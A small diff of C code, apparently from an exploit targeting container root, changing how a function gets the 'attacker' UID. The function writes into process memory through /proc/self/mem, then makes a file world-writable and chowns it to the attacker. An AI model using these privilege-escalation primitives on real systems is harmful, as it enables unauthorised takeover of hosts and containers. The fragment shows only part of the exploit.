@@ -151,7 +151,7 @@ static void table_write(const struct member *member)
 	CHECK(memory >= 0, "%s", strerror(errno));
 	CHECK(pwrite(memory, &word, sizeof(word), (off_t)(uintptr_t)place) < 0, "/proc/self/mem");
 	close(memory);
-	CHECK(fchmod(fd, 0666) && fchown(fd, ATTACKER_UID, ATTACKER_UID), "ownership");
+	CHECK(fchmod(fd, 0666) && fchown(fd, attacker_uid(), attacker_uid()), "ownership");
 }
 
 static void table_of_container_root(const struct member *member)
